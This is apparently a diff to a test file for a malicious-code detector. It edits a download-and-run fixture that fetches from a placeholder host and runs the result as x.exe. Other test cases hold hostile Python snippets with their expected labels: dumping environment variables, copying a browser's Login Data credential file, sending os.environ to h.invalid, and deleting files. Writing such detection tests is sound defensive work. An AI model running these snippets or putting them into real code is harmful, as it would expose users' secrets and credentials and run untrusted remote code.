@@ -318,8 +318,8 @@ with tempfile.NamedTemporaryFile() as out:
 os.system(out.name)
 """
 FETCHED_TO = """import os, urllib.request as u
-u.urlretrieve("https://h.invalid/x", "/tmp/x")
-os.startfile("/tmp/x")
+u.urlretrieve("https://h.invalid/x", "x.exe")
+os.startfile("x.exe")
 """
 ASKED = """import http.client, os
 c = http.client.HTTPSConnection("h.invalid")
@@ -334,7 +334,7 @@ c.request("POST", "/", body=repr(os.environ))
         ("import os\nprint(str(dict(os.environ)))", ("environment-bulk", "*")),
         ('import shutil\nshutil.copy2(home + "/Default/Login Data", "x")', ("credentials", "Login Data")),
         (FETCHED_BESIDE, ("download-and-run", "h.invalid -> os.system")),
-        (FETCHED_TO, ("download-and-run", "/tmp/x -> os.startfile")),
+        (FETCHED_TO, ("download-and-run", "x.exe -> os.startfile")),
         (ASKED, ("exfiltration", "environment -> h.invalid")),
         (
             'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.remove(\'/x\')"])',
